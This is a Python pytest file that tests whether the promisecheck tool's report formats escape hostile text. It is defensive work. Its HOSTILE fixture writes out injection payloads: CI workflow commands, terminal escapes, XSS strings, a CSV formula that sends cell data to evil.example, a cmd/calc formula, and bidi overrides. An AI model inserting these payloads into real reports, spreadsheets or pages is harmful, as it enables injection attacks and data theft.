"""Hostile text in every place that a report has, through every format: none of it gets out raw."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from promisecheck.model import (
    CheckedDocument,
    CueHit,
    Failure,
    Feature,
    Finding,
    Place,
    Report,
    RuleInfo,
    ScopedStatus,
    Severity,
    Status,
    Suppressed,
    Verdict,
)
from promisecheck.reports import FORMATS, render
from promisecheck.reports.look import Look

HOSTILE = {
    "workflow command": "::error file=a.md,line=1::gotcha",
    "workflow command after a break": "honest\n  ::add-mask::secret\r\n::stop-commands::x",
    "old workflow command": "see ##[add-path]/tmp and ##vso[task.setvariable variable=x]y",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J \x08\x7f",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>",
    "html comment": "--> ]]> <!-- </style></script> <![CDATA[ &lt;b&gt; &#x202e;",
    "attribute": 'x" onclick="alert(1)" y=\'z\' `',
    "xml": "\x00\x0b\ufffe\uffff\ud800 & <?xml?> <!DOCTYPE x>",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
    "formula of another sign": "@SUM(A1:A9)|cmd' /C calc'!A0",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c \u200b\ufeff",
    "markdown": "**x** [y](https://evil.example) ![z](https://evil.example/z.png) `a` | b\n\n# c",
    "forge": "@all #1 !2 https://evil.example www.evil.example\n/close\n- [ ] task",
    "json": '","code":"PC000","x":"\\u202e\\',
}
COMMAND = re.compile(r"\s*::[A-Za-z]")
STEERING = {"Cc", "Cs", "Zl", "Zp"}
INVISIBLE = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b")
INVISIBLE |= set("\ufeff\ufffe\uffff")


def filled(report: Report, text: str) -> Report:
    """The report with the text in every place that a document, catalog or file name fills."""
    feature = Feature(
        "x",
        text,
        Status.SHIPPED,
        aliases=(text,),
        only={"plan": frozenset({"team"})},
        exceptions=(ScopedStatus({"region": frozenset({text})}, Status.BETA, text),),
        say=text,
        note=text,
        owner=text,
        replaced_by=text,
    )
    documents = tuple(_document(document, feature, text) for document in report.documents)
    catalog = replace(report.catalog, product=text, path=text, digest=text, features=(feature,))
    dimensions = {"plan": {"team": (text,)}}
    return replace(
        report,
        catalog=replace(catalog, dimensions=dimensions),
        documents=documents,
        errors=(Failure(text, text),),
        suppressed=Suppressed(1, 2, 3),
    )


def _document(document: CheckedDocument, feature: Feature, text: str) -> CheckedDocument:
    findings = tuple(_finding(finding, feature, text) for finding in document.findings)
    claims = tuple(finding.claim for finding in findings)
    scope = {"plan": frozenset({"team", text})}
    return replace(document, path=text, scope=scope, claims=claims, findings=findings)


def _finding(finding: Finding, feature: Feature, text: str) -> Finding:
    mention = finding.claim.mention
    block = replace(mention.statement.block, text=text)
    statement = replace(mention.statement, block=block, start=0, end=len(text))
    match = replace(mention.match, alias=text)
    mention = replace(mention, statement=statement, start=0, end=len(text), match=match)
    location = replace(finding.claim.location, start=Place(1, 1, sheet=text, cell=text))
    cue = CueHit(text, "x")
    claim = replace(finding.claim, mention=mention, location=location, cues=(cue,))
    return replace(finding, claim=claim, feature=feature, message=text, suggestion=text)


@pytest.fixture(params=sorted(HOSTILE))
def attacked(request, many) -> Report:
    """A report with one kind of hostile text everywhere."""
    return filled(many, HOSTILE[request.param])


@pytest.mark.parametrize("name", FORMATS)
def test_nothing_steers_and_nothing_commands(name, attacked):
    text = render(name, attacked, Look(verbose=True, alone=True))
    raw = {char for char in set(text) if unicodedata.category(char) in STEERING} | (
        set(text) & INVISIBLE
    )
    assert raw <= {"\n"}
    assert "##[" not in text
    assert "##vso[" not in text
    text.encode("utf-8")
    if name != "github":
        assert [line for line in text.splitlines() if COMMAND.match(line)] == []


PIECES = st.sampled_from([*HOSTILE.values(), "::", "#", "[", "<", "\n", "\r", " ", ":", "\t"])
ANYTHING = st.lists(PIECES | st.characters(codec=None), min_size=1, max_size=6).map("".join)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=ANYTHING)
def test_no_mixture_gets_through(one, text):
    report = filled(one, text)
    for name in FORMATS:
        made = render(name, report, Look(width=40, alone=True))
        assert {char for char in made if unicodedata.category(char) in STEERING} <= {"\n"}, name
        assert not set(made) & INVISIBLE, name
        assert "##[" not in made, name
        commands = [line for line in made.splitlines() if COMMAND.match(line)]
        assert len(commands) == (3 if name == "github" else 0), name
    ElementTree.fromstring(render("junit", report))
    assert page(render("html", report)).tags["script"] == 1


def test_github_has_its_own_commands_and_no_others(attacked):
    lines = render("github", attacked).splitlines()
    own = re.compile(r"::(error|warning|notice) (?:[A-Za-z]+=[^,:]*,)*[A-Za-z]+=[^,:]*::.*")
    assert [line for line in lines if not own.fullmatch(line)] == []
    assert {re.split("[ :]", line[2:])[0] for line in lines} <= {"error", "warning", "notice"}
    findings = sum(len(document.findings) for document in attacked.documents)
    assert len(lines) == findings + 2


@pytest.mark.parametrize("name", ["json", "jsonl", "sarif", "gitlab", "rdjson"])
def test_json_is_json_and_holds_no_tags(name, attacked):
    text = render(name, attacked)
    for part in text.splitlines() if name == "jsonl" else [text]:
        json.loads(part)
    assert not re.search(r"<[A-Za-z/!?]", text)


def test_xml_is_xml_of_known_elements(attacked):
    root = ElementTree.fromstring(render("junit", attacked))
    assert {element.tag for element in root.iter()} <= {
        "testsuites",
        "testsuite",
        "testcase",
        "failure",
        "error",
        "skipped",
        "system-out",
    }
    assert len(root) == len(attacked.documents) + 2


def test_no_cell_is_a_formula(attacked):
    rows = list(csv.reader(io.StringIO(render("csv", attacked))))
    assert {len(row) for row in rows} == {18}
    cells = [cell.lstrip() for row in rows for cell in row if cell]
    assert [cell for cell in cells if cell[0] in "=+-@|%\uff1d\uff0b\uff0d\uff20"] == []


def test_markdown_has_no_markup_of_others(attacked):
    tokens = (
        MarkdownIt("commonmark", {"html": True}).enable("table").parse(render("markdown", attacked))
    )
    kinds = {token.type for token in tokens}
    assert not kinds & {"fence", "code_block", "table_open", "blockquote_open", "hr"}
    inner = [child for token in tokens for child in token.children or ()]
    assert not {child.type for child in inner} & {"link_open", "image", "code_inline", "s_open"}
    assert {child.content for child in inner if child.type == "html_inline"} <= {"<b>", "</b>"}
    blocks = [token.content.strip() for token in tokens if token.type == "html_block"]
    assert [block.partition("\n")[0] for block in blocks] == ["<!-- promisecheck -->"]
    assert not re.search(r"@\w|[#!]\d|://|www\.", "".join(child.content for child in inner))


class Page(HTMLParser):
    """What an HTML page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: dict[str, int] = {}
        self.names: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.names |= {name for name, _ in attrs}


def page(text: str) -> Page:
    parsed = Page()
    parsed.feed(text)
    return parsed


def test_the_page_is_made_of_the_same_elements_whatever_it_shows(attacked, many):
    harmless, shown = page(render("html", filled(many, "words"))), page(render("html", attacked))
    assert shown.tags == harmless.tags
    assert shown.names == harmless.names
    assert not any(name.startswith("on") for name in shown.names)
    assert shown.tags["script"] == 1


def test_the_text_is_filled_in_everywhere(many):
    """The attack reaches what it is meant to reach."""
    report = filled(many, "marker words")
    for name in FORMATS:
        assert "marker words" in render(name, report, Look(width=200, verbose=True)), name


def test_a_rule_of_ones_own_is_no_way_in(many):
    """Rules may carry texts of a configuration: they are escaped as well."""
    rule = RuleInfo("PC301", "x", Severity.ERROR, "<b>\x1b", why="\x1b", wrong=("\u202e",))
    (document, *_) = many.documents
    found = replace(document.findings[0], rule=rule)
    report = replace(many, documents=(replace(document, findings=(found,)),))
    for name in FORMATS:
        assert not set(render(name, report)) & {"\x1b", "\u202e"}


def test_verdicts_are_not_changed_by_text(attacked):
    assert {document.verdict for document in attacked.documents} == {Verdict.PASS, Verdict.FAIL}
